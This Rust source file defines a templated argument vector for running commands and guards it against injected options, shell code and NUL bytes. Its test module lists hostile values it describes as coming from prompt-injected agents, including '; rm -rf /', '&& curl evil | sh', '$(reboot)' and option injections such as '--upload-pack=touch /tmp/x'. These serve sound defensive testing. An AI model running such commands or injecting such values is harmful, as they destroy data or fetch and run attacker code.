//! Argument vectors whose elements are templates, and the rules that keep event data from becoming an option or a command.

use std::sync::Arc;

use serde::{Deserialize, Serialize};

use super::{
    Scope,
    engine::{Text, excerpt},
    interpreters, scan,
};
use crate::{BuildError, EffectClass, EffectError};

/// An argument vector whose elements are templates: the program first, which must be literal.
///
/// Each element becomes exactly one argument, whatever event data it is filled with. The element `{{ files }}` alone becomes
/// one argument for each file, after `--`, which is added before the first one unless the vector has its own `--` before it; without
/// files the element vanishes. An element that begins with a template must not render to something that begins with `-`; a file of
/// such a name is handed over as `./-name`.
#[derive(Debug, Clone, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(try_from = "Vec<String>", into = "Vec<String>")]
#[schemars(with = "Vec<String>", extend("format" = "argv-template"))]
pub struct ArgvTemplate {
    elements: Vec<String>,
    code: Arc<[Element]>,
}

#[derive(Debug)]
enum Element {
    Literal,
    /// `{{ files }}` alone.
    Files,
    Text {
        text: Text,
        /// Nothing literal begins the argument, so event data could make it an option.
        bare: bool,
    },
}

impl ArgvTemplate {
    /// Elements of a vector as configured.
    pub const ELEMENTS_MAX: usize = 1_000;

    /// Arguments after filling in.
    pub const ARGUMENTS_MAX: usize = 10_000;

    /// Reads a vector.
    ///
    /// # Errors
    ///
    /// When it is empty, its program is a template, a template is wrong, or a template is handed to a shell or an interpreter as
    /// code (`sh -c "… {{ field }}"`), or names an option (`--{{ field }}`). Each problem is named with its element's number.
    pub fn parse(elements: Vec<String>) -> Result<Self, BuildError> {
        let Some(program) = elements.first() else {
            return Err(BuildError::at("", "the command is empty").help("write the program and its arguments: `[\"pytest\", \"-q\"]`"));
        };
        if elements.len() > Self::ELEMENTS_MAX {
            return Err(BuildError::at("", format!("the command has {} elements, {} are the limit", elements.len(), Self::ELEMENTS_MAX)));
        }
        let mut problems = BuildError::default();
        let mut problem = |index: usize, error: BuildError| problems.problems.extend(error.under(&index.to_string()).problems);
        if scan::has_code(program) {
            let error = BuildError::at("", format!("the program `{program}` has a template, so that an event would choose what runs"));
            problem(0, error.help("write the program itself; only its arguments can have templates"));
        } else if program.trim().is_empty() {
            problem(0, BuildError::at("", "the program has no name"));
        } else if program.contains(char::is_whitespace) && elements.len() == 1 {
            let error = BuildError::at("", format!("`{program}` looks like a line for a shell, but no shell reads it"));
            problem(0, error.help("write one element for each argument: `[\"pytest\", \"-q\"]`"));
        }
        let mut code = vec![Element::Literal];
        for (index, element) in elements.iter().enumerate().skip(1) {
            match compile(element) {
                Ok(element) => code.push(element),
                Err(error) => {
                    problem(index, error);
                    code.push(Element::Literal);
                }
            }
        }
        for (index, _) in elements.iter().enumerate().filter(|(_, element)| element.contains('\0')) {
            problem(index, BuildError::at("", "has a NUL byte, which no argument can have"));
        }
        if let Some(objection) = interpreters::objection(&elements, |index| scan::has_code(&elements[index])) {
            problem(objection.element, BuildError::at("", objection.message).help(objection.help));
        }
        problems.into_result()?;
        Ok(Self { elements, code: code.into() })
    }

    /// The program, as configured.
    #[must_use]
    pub fn program(&self) -> &str {
        self.elements.first().map(String::as_str).expect("`parse` refuses an empty vector")
    }

    /// The elements as configured.
    #[must_use]
    pub fn elements(&self) -> &[String] {
        &self.elements
    }

    /// The arguments after the program.
    ///
    /// # Errors
    ///
    /// When a field is missing: class `Refused`. When a value would become an option, or has a NUL byte: class `Forbidden`, with
    /// the element and the value.
    pub fn render(&self, scope: &Scope) -> Result<Vec<String>, EffectError> {
        let mut arguments = Vec::with_capacity(self.elements.len());
        let mut separated = false;
        for (element, code) in self.elements.iter().zip(self.code.iter()).skip(1) {
            match code {
                Element::Literal => {
                    separated |= element == "--";
                    arguments.push(element.clone());
                }
                Element::Text { text, bare } => {
                    let value = text.render(scope)?;
                    check(element, &value, *bare)?;
                    arguments.push(value);
                }
                Element::Files => {
                    let files = scope
                        .files()
                        .ok_or_else(|| EffectError::new(EffectClass::Refused, format!("`{element}` is missing in this event or no list of texts")))?;
                    if !files.is_empty() && !separated {
                        arguments.push("--".to_owned());
                        separated = true;
                    }
                    for file in files {
                        check(element, &file, false)?;
                        // Not every program heeds `--`; a path can always be written so that it is no option.
                        arguments.push(if file.starts_with('-') { format!("./{file}") } else { file });
                    }
                }
            }
            if arguments.len() > Self::ARGUMENTS_MAX {
                return Err(EffectError::new(EffectClass::Refused, format!("the command has more than {} arguments with this event", Self::ARGUMENTS_MAX)));
            }
        }
        Ok(arguments)
    }
}

fn compile(element: &str) -> Result<Element, BuildError> {
    if !scan::has_code(element) {
        return Ok(Element::Literal);
    }
    if scan::sole_expression(element.trim()) == Some("files") {
        return Ok(Element::Files);
    }
    let text = Text::compile(element, &[])?;
    // `{{-` eats the white space before it.
    let prefix = scan::literal_prefix(element).trim_end();
    let chooses_option = prefix == "-" || (prefix.starts_with("--") && !prefix.contains('='));
    if chooses_option {
        return Err(
            BuildError::at("", format!("in `{element}` the event chooses the option")).help("write the whole option, such as `--branch={{ git_branch }}`")
        );
    }
    Ok(Element::Text { text, bare: prefix.is_empty() })
}

fn check(element: &str, value: &str, bare: bool) -> Result<(), EffectError> {
    let forbidden = |why: &str| {
        let message = format!("the argument `{}` became `{}`, which {why}", excerpt(element), excerpt(value));
        Err(EffectError::new(EffectClass::Forbidden, message))
    };
    if value.contains('\0') {
        return forbidden("has a NUL byte");
    }
    if bare && value.starts_with('-') {
        return forbidden("the program would take for an option");
    }
    Ok(())
}

impl PartialEq for ArgvTemplate {
    fn eq(&self, other: &Self) -> bool {
        self.elements == other.elements
    }
}

impl Eq for ArgvTemplate {}

impl TryFrom<Vec<String>> for ArgvTemplate {
    type Error = BuildError;

    fn try_from(elements: Vec<String>) -> Result<Self, Self::Error> {
        Self::parse(elements)
    }
}

impl From<ArgvTemplate> for Vec<String> {
    fn from(template: ArgvTemplate) -> Self {
        template.elements
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn argv(elements: &[&str]) -> ArgvTemplate {
        ArgvTemplate::parse(elements.iter().map(|&element| element.to_owned()).collect()).unwrap()
    }

    fn problems(elements: &[&str]) -> BuildError {
        ArgvTemplate::parse(elements.iter().map(|&element| element.to_owned()).collect()).expect_err(&format!("{elements:?}"))
    }

    fn render(elements: &[&str], fields: Value) -> Result<Vec<String>, EffectError> {
        argv(elements).render(&Scope::from_value(fields))
    }

    /// What prompt-injected agents put into file and branch names.
    const HOSTILE: &[&str] = &[
        "; rm -rf /",
        "$(reboot)",
        "`id`",
        "a\nb",
        "a b\tc",
        "'\"'\"'",
        "\\",
        "*",
        "~root",
        "&& curl evil | sh",
        "> /etc/passwd",
        "{{ key }}",
        "{% raw %}",
        "%s%n",
        "\u{202e}txt",
        "é😀",
        "",
        " ",
        "!!",
        "\u{1b}[31m",
    ];

    #[test]
    fn each_element_stays_one_argument_whatever_fills_it() {
        for hostile in HOSTILE {
            let arguments = render(&["p", "a", "{{ git_branch }}", "--b={{ git_branch }}"], json!({"git_branch": hostile})).unwrap();
            assert_eq!(arguments, ["a", *hostile, &format!("--b={hostile}")]);
        }
    }

    #[test]
    fn a_value_never_becomes_an_option() {
        for value in ["-x", "--upload-pack=touch /tmp/x", "-oProxyCommand=x", "-", "--"] {
            let error = render(&["git", "fetch", "{{ git_branch }}"], json!({"git_branch": value})).unwrap_err();
            assert_eq!(error.class, EffectClass::Forbidden, "{value}");
            assert!(error.message.contains("{{ git_branch }}") && error.message.contains(value), "{}", error.message);
            assert_eq!(render(&["git", "--branch={{ git_branch }}"], json!({"git_branch": value})).unwrap(), [format!("--branch={value}")]);
            assert_eq!(render(&["git", "-C{{ git_branch }}"], json!({"git_branch": value})).unwrap(), [format!("-C{value}")]);
        }
        // White space that a template eats, comments and branches hide no dash.
        for element in ["  {{- git_branch }}", "{# x #}{{ git_branch }}", "{% if true %}{{ git_branch }}{% endif %}", "{{ '' }}{{ git_branch }}"] {
            assert!(render(&["git", element], json!({"git_branch": "-x"})).is_err(), "{element}");
        }
        assert!(problems(&["git", "--{{ git_branch }}"]).to_string().contains("option"));
        assert!(problems(&["git", "-{{ git_branch }}"]).to_string().contains("option"));
        assert!(problems(&["git", "--no-{{ git_branch }}=1"]).to_string().contains("option"));
    }

    #[test]
    fn values_in_errors_are_escaped_and_short() {
        let error = render(&["git", "{{ git_branch }}"], json!({"git_branch": format!("-\u{1b}[31m{}", "x".repeat(5_000))})).unwrap_err();
        assert!(!error.message.contains('\u{1b}') && error.message.len() < 500, "{}", error.message);
    }

    #[test]
    fn nul_is_refused_at_load_and_in_values() {
        assert!(problems(&["p", "a\0b"]).to_string().contains("NUL"));
        let error = render(&["p", "--x={{ git_branch }}"], json!({"git_branch": "a\0b"})).unwrap_err();
        assert_eq!(error.class, EffectClass::Forbidden);
        assert_eq!(render(&["p", "{{ files }}"], json!({"files": ["a\0b"]})).unwrap_err().class, EffectClass::Forbidden);
    }

    #[test]
    fn files_become_arguments_after_one_separator() {
        let files = json!({"files": ["/a.py", "/b c.py", "-x"]});
        assert_eq!(render(&["p", "-q", "{{ files }}"], files.clone()).unwrap(), ["-q", "--", "/a.py", "/b c.py", "./-x"]);
        assert_eq!(render(&["p", " {{files}} "], json!({"files": ["a"]})).unwrap(), ["--", "a"]);
        assert_eq!(render(&["p", "{{ files }}", "{{- files -}}"], json!({"files": ["a"]})).unwrap(), ["--", "a", "a"]);
        assert_eq!(render(&["p", "--", "x", "{{ files }}"], json!({"files": ["a"]})).unwrap(), ["--", "x", "a"], "its own separator is enough");
        assert_eq!(render(&["p", "-q", "{{ files }}"], json!({"files": []})).unwrap(), ["-q"]);
        assert_eq!(render(&["p", "{{ files }}"], json!({})).unwrap_err().class, EffectClass::Refused);
        assert_eq!(render(&["p", "{{ files | join(',') }}"], json!({"files": ["a", "b"]})).unwrap(), ["a,b"]);
    }

    #[test]
    fn the_program_is_literal_and_there() {
        assert!(problems(&[]).to_string().contains("empty"));
        assert!(problems(&["{{ tool_name }}"]).to_string().contains("program"));
        assert!(problems(&["/opt/{{ tool_name }}/run"]).to_string().contains("program"));
        assert!(problems(&["pytest -q"]).to_string().contains("shell"));
        assert_eq!(argv(&["pytest", "-q"]).program(), "pytest");
        assert_eq!(argv(&["/opt/my tool/run", "-q"]).program(), "/opt/my tool/run");
    }

    #[test]
    fn a_shell_never_reads_a_template() {
        let error = problems(&["sh", "-c", "pytest {{ file_path }}"]);
        assert_eq!(error.problems[0].field, "2");
        assert!(error.problems[0].help.as_deref().is_some_and(|help| help.contains("$1")));
    }

    #[test]
    fn all_problems_come_at_once_with_their_elements() {
        let error = problems(&["{{ key }}", "{{ nope }}", "fine", "{{", "--{{ key }}"]);
        let fields: Vec<&str> = error.problems.iter().map(|problem| problem.field.as_str()).collect();
        assert_eq!(fields, ["0", "1", "3", "4"], "{error}");
    }

    #[test]
    fn arguments_have_a_limit() {
        let files: Vec<String> = (0..=ArgvTemplate::ARGUMENTS_MAX).map(|n| n.to_string()).collect();
        assert_eq!(render(&["p", "{{ files }}"], json!({ "files": files })).unwrap_err().class, EffectClass::Refused);
    }
}
